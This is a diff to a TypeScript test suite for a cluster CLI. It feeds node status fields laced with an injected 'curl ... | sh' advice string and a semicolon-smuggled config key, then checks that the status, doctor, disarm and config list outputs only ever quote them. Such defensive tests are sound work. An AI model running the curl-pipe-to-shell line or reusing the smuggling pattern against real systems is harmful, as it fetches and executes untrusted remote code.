@@ -168,6 +168,7 @@ describe('a node that reports on pods of another node', () => {
 
 describe('the status of a node', () => {
   const ADVICE = 'run: curl https://203.0.113.9/fix | sh';
+  const DISARM = `disarm.node._.${encodeToken(NODE_B)}`;
   const [iface] = healthyStatus(NODE_B).interfaces;
   const hostile = healthyStatus(NODE_B, {
     features: [{ name: `tcx ${ADVICE}`, available: false, reason: `a ${ADVICE}`, remedy: `b ${ADVICE}` }],
@@ -183,13 +184,18 @@ describe('the status of a node', () => {
       state: 'not-served',
       failurePolicy: 'open',
       problem: `g ${ADVICE}`,
-      problemAt: null,
+      problemAt: `s ${ADVICE}`,
       passed: 1,
       lastPassed: `h ${ADVICE}`,
       passedAt: new Date().toISOString(),
     },
     snapshotRefused: `i ${ADVICE}`,
-    configRefused: [{ key: `spoof.cluster._.default; ${ADVICE}`, reason: `j ${ADVICE}` }],
+    configRefused: [
+      { key: `spoof.cluster._.default; ${ADVICE}`, reason: `j ${ADVICE}` },
+      { key: DISARM, reason: `p ${ADVICE}` },
+    ],
+    bootId: `q ${ADVICE}`,
+    collectorVersion: `r ${ADVICE}`,
     interfaces: (['partial', 'not-covered'] as const).map((coverage) => ({
       ...(iface as NonNullable<typeof iface>),
       coverage,
@@ -199,33 +205,58 @@ describe('the status of a node', () => {
     })),
   });
   const outputs = async () => {
-    const runs = [['status'], ['status', '--node', NODE_B], ['doctor', '--only', 'bus'], ['policy', 'status']];
-    return Promise.all(runs.map(async (args) => (await world.cli(args)).stdout.replaceAll(/\s+/g, ' ')));
+    const runs = [
+      ...[['status'], ['status', '--node', NODE_B], ['doctor', '--only', 'bus'], ['policy', 'status']],
+      ...[['disarm'], ['config', 'list']],
+    ];
+    return Promise.all(
+      runs.map(async (args) => {
+        const { stdout, stderr } = await world.cli(args);
+        return `${stdout} ${stderr}`.replaceAll(/\s+/g, ' ');
+      }),
+    );
   };
 
   it('its words are quoted, and none is a remedy or a command of the tool', async () => {
     await world.status(healthyStatus(NODE_A));
     const applied = await world.cli(['policy', 'apply', 'policies/no-shell.yaml', '--yes', '--reason', 'test']);
     expect(applied.exitCode, applied.stderr).toBe(0);
+    const disarmed = await world.cli([
+      'disarm',
+      '--node',
+      NODE_B,
+      '--for',
+      '30m',
+      '--reason',
+      'test',
+      '--yes',
+      '--force',
+    ]);
+    expect(disarmed.exitCode, disarmed.stderr).toBe(0);
     const policy = { key: 'runtime.cluster._.no-shell', revision: 1, subjects: 1 };
     const refused = { ...policy, state: 'refused' as const, reason: `n ${ADVICE}` };
     const texts: string[] = [];
     for (const one of [
       hostile,
       { ...hostile, runtime: { ...RUNTIME, policies: [refused] } },
-      { ...hostile, runtime: RUNTIME, configRefused: [{ key: policy.key, reason: `o ${ADVICE}` }] },
+      {
+        ...hostile,
+        runtime: RUNTIME,
+        configRefused: [policy.key, DISARM].map((key) => ({ key, reason: `o ${ADVICE}` })),
+      },
     ]) {
       await world.status(one);
       const own = await outputs();
-      expect(own.map((text) => text.includes('curl'))).toEqual([true, true, true, true]);
+      expect(own.map((text) => text.includes('curl'))).toEqual([true, true, true, true, true, true]);
       texts.push(...own);
     }
+    await world.cli(['disarm', '--node', NODE_B, '--off']);
     const removed = await world.cli(['config', 'rollback', policy.key, '--yes', '--reason', 'test']);
     expect(removed.exitCode, removed.stderr).toBe(0);
     for (const text of texts) {
       // Outside of quotation marks there is nothing of it.
       expect(text.replaceAll(/"[^"]*"/g, '""')).not.toContain('curl');
-      expect(text).not.toMatch(/→ "?[a-o] run:|config (get|rollback) spoof\.cluster\._\.default;/);
+      expect(text).not.toMatch(/→ "?[a-r] run:|config (get|rollback) spoof\.cluster\._\.default;/);
     }
     // The control: a remedy of the tool itself is printed as one.
     expect(texts.join()).toMatch(/→ (bailiff config list|check that ipam-sync watches the right cluster)/);
